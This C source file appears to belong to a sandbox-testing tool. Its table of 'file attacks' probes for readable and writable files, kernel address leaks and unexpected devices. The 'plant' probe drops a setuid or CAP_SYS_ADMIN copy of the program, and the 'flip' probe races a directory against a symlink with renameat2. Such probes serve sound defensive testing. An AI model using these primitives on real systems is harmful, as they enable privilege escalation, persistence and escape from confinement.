/* SPDX-License-Identifier: Apache-2.0 */
/* Files: what can be read, written, found, planted and swapped. */
#include "probe.h"

#include <dirent.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <sys/xattr.h>
#include <time.h>

/* read PATH [TEXT]: without TEXT any content counts. */
static int read_file(int argc, char **argv)
{
    static char block[1 << 20];
    int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t n;

    if (fd < 0)
        return refused(argv[0]);
    errno = ENODATA;
    n = read(fd, block, sizeof(block));
    if (n <= 0)
        return refused("read");
    if (argc > 1 && !memmem(block, (size_t)n, argv[1], strlen(argv[1])))
        return refused_by("another content");
    return won("read %zd bytes of %s", n, argv[0]);
}

/* visible PATH...: does any of them say anything? A directory speaks by its entries. */
static int visible(int argc, char **argv)
{
    for (int i = 0; i < argc; i++) {
        struct dirent *entry;
        struct stat st;
        char block[4096];
        DIR *dir;
        int fd;

        if (stat(argv[i], &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            dir = opendir(argv[i]);
            while (dir && (entry = readdir(dir))) {
                if (entry->d_name[0] != '.')
                    return won("%s has %s", argv[i], entry->d_name);
            }
            if (dir)
                closedir(dir);
            continue;
        }
        fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0 && read(fd, block, sizeof(block)) > 0)
            return won("%s can be read", argv[i]);
        if (fd >= 0)
            close(fd);
    }
    return refused_by("nothing to see in %d places", argc);
}

/* Opens for writing and writes nothing. */
static int write_open(int argc, char **argv)
{
    (void)argc;
    return judge(open(argv[0], O_WRONLY | O_NONBLOCK | O_CLOEXEC), argv[0]);
}

static int write_text(int argc, char **argv)
{
    int fd = open(argv[0], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

    (void)argc;
    if (fd < 0)
        return refused(argv[0]);
    return judge(write(fd, argv[1], strlen(argv[1])), argv[0]);
}

/* Paths that `except` (a NULL-terminated list of beginnings) names are left alone. */
static int is_excepted(const char *path, char **except)
{
    for (; *except; except++) {
        if (strncmp(path, *except, strlen(*except)) == 0)
            return 1;
    }
    return 0;
}

static int sweep(const char *dir, int depth, char *found, size_t size, long *seen, char **except)
{
    DIR *handle = depth > 24 ? NULL : opendir(dir);
    struct dirent *entry;
    char path[4096];
    struct stat st;
    int fd;

    while (handle && !found[0] && (entry = readdir(handle))) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        /* processes have a part of /proc that is theirs */
        if (strcmp(dir, "/proc") == 0 &&
            ((entry->d_name[0] >= '0' && entry->d_name[0] <= '9') ||
             strstr(entry->d_name, "self") || strcmp(entry->d_name, "net") == 0))
            continue;
        if ((size_t)snprintf(path, sizeof(path), "%s/%s", dir, entry->d_name) >= sizeof(path))
            continue;
        if (is_excepted(path, except) || lstat(path, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            sweep(path, depth + 1, found, size, seen, except);
        } else if (S_ISREG(st.st_mode)) {
            (*seen)++;
            fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0) {
                snprintf(found, size, "%s", path);
                close(fd);
            }
        }
    }
    if (handle)
        closedir(handle);
    return found[0] != 0;
}

/* sweep-write DIR [EXCEPT...]: the first file below it that can be opened for writing. */
static int sweep_write(int argc, char **argv)
{
    char found[4096] = "";
    long seen = 0;

    (void)argc; /* argv ends with a NULL */
    if (sweep(argv[0], 0, found, sizeof(found), &seen, argv + 1))
        return won("%s can be written", found);
    return refused_by("none of %ld files below %s", seen, argv[0]);
}

/* Kernel addresses: the first symbol that is not zero. */
static int kernel_addresses(int argc, char **argv)
{
    FILE *file = fopen("/proc/kallsyms", "re");
    unsigned long long address = 0;
    char line[512];

    (void)argc;
    (void)argv;
    if (!file)
        return refused("/proc/kallsyms");
    for (int i = 0; i < 1000 && !address && fgets(line, sizeof(line), file); i++)
        address = strtoull(line, NULL, 16);
    fclose(file);
    return address ? won("address %llx", address) : refused_by("no addresses");
}

/* Any device in /dev that is not one of the harmless ones? */
static int devices(int argc, char **argv)
{
    static const struct {
        unsigned major, minor;
    } harmless[] = {{1, 3}, {1, 5}, {1, 7}, {1, 8}, {1, 9}, {5, 0}, {5, 2}};
    DIR *dir = opendir("/dev");
    struct dirent *entry;
    struct stat st;

    (void)argc;
    (void)argv;
    while (dir && (entry = readdir(dir))) {
        int fine = 0;

        if (fstatat(dirfd(dir), entry->d_name, &st, 0) < 0)
            continue;
        if (S_ISCHR(st.st_mode)) {
            for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++)
                fine |= major(st.st_rdev) == harmless[i].major &&
                        minor(st.st_rdev) == harmless[i].minor;
            /* terminals of a devpts of our own, also as console and as our standard streams */
            fine |= major(st.st_rdev) >= 136 && major(st.st_rdev) <= 143;
        } else if (!S_ISBLK(st.st_mode)) {
            fine = 1;
        }
        if (!fine)
            return won("/dev/%s is %u:%u", entry->d_name, major(st.st_rdev), minor(st.st_rdev));
    }
    if (!dir)
        return untried("/dev");
    closedir(dir);
    return refused_by("only harmless devices");
}

static int find_below(const char *dir, const char *name, int depth, char *found, size_t size)
{
    DIR *handle = depth > 40 ? NULL : opendir(dir);
    struct dirent *entry;
    char path[4096];

    while (handle && !found[0] && (entry = readdir(handle))) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        if ((size_t)snprintf(path, sizeof(path), "%s/%s", strcmp(dir, "/") ? dir : "",
                             entry->d_name) >= sizeof(path))
            continue;
        if (strstr(entry->d_name, name)) {
            snprintf(found, size, "%s", path);
            break;
        }
        if (entry->d_type != DT_DIR || strcmp(path, "/proc") == 0 || strcmp(path, "/sys") == 0 ||
            strcmp(path, "/usr") == 0)
            continue;
        find_below(path, name, depth + 1, found, size);
    }
    if (handle)
        closedir(handle);
    return found[0] != 0;
}

/* find NAME [DIR]: a file with NAME in its name anywhere outside of /usr, /proc and /sys. */
static int find(int argc, char **argv)
{
    char found[4096] = "";

    if (find_below(argc > 1 ? argv[1] : "/", argv[0], 0, found, sizeof(found)))
        return won("found %s", found);
    return refused_by("nothing of that name");
}

static int hostname(int argc, char **argv)
{
    struct utsname name;

    (void)argc;
    if (uname(&name) < 0)
        return untried("uname");
    return strcmp(name.nodename, argv[0]) == 0 ? won("this is %s", name.nodename)
                                               : refused_by("this is %s", name.nodename);
}

static int hard_link(int argc, char **argv)
{
    int result = link(argv[0], argv[1]), code = errno;

    (void)argc;
    if (result == 0)
        unlink(argv[1]);
    errno = code;
    return judge(result, "link");
}

static int set_attribute(int argc, char **argv)
{
    (void)argc;
    return judge(setxattr(argv[1], argv[0], argv[2], strlen(argv[2]), 0), argv[0]);
}

static int copy_self(const char *path, mode_t mode)
{
    char buffer[65536];
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    ssize_t n;

    while (in >= 0 && out >= 0 && (n = read(in, buffer, sizeof(buffer))) > 0) {
        if (write(out, buffer, (size_t)n) != n)
            return -1;
    }
    if (in < 0 || out < 0 || fchmod(out, mode) < 0)
        return -1;
    close(in);
    return close(out);
}

/* plant PATH suid|caps: a copy of this program that gives its powers to whoever runs it. */
static int plant(int argc, char **argv)
{
    uint32_t header[5] = {0x02000001, 0x00200000 /* CAP_SYS_ADMIN */, 0, 0, 0};
    int with_caps = strcmp(argv[1], "caps") == 0;

    (void)argc;
    if (copy_self(argv[0], with_caps ? 0755 : 06755) < 0)
        return refused("copy");
    if (with_caps && setxattr(argv[0], "security.capability", header, sizeof(header), 0) < 0)
        return refused("security.capability");
    return won("planted %s", argv[0]);
}

/*
 * flip DIR TARGET SECONDS: DIR/d is by turns a directory and a link to TARGET, as fast as the
 * kernel can exchange two names.
 */
static int flip(int argc, char **argv)
{
    struct timespec now;
    long end, rounds = 0;

    (void)argc;
    clock_gettime(CLOCK_MONOTONIC, &now);
    end = now.tv_sec + atol(argv[2]);
    if (chdir(argv[0]) < 0)
        return untried(argv[0]);
    if ((mkdir("d", 0755) < 0 && errno != EEXIST) || (symlink(argv[1], "e") < 0 && errno != EEXIST))
        return untried("mkdir, symlink");
    printf("flipping\n");
    fflush(stdout);
    while (now.tv_sec < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "e", 2 /* exchange */) < 0)
            return untried("renameat2");
        rounds++;
        if (rounds % 256 == 0)
            clock_gettime(CLOCK_MONOTONIC, &now);
    }
    return won("%ld rounds", rounds);
}

const struct attack file_attacks[] = {
    {"read", read_file, 1},
    {"visible", visible, 1},
    {"write-open", write_open, 1},
    {"write", write_text, 2},
    {"sweep-write", sweep_write, 1},
    {"addresses", kernel_addresses, 0},
    {"devices", devices, 0},
    {"find", find, 1},
    {"hostname", hostname, 1},
    {"link", hard_link, 2},
    {"setxattr", set_attribute, 3},
    {"plant", plant, 2},
    {"flip", flip, 3},
    {NULL, NULL, 0},
};
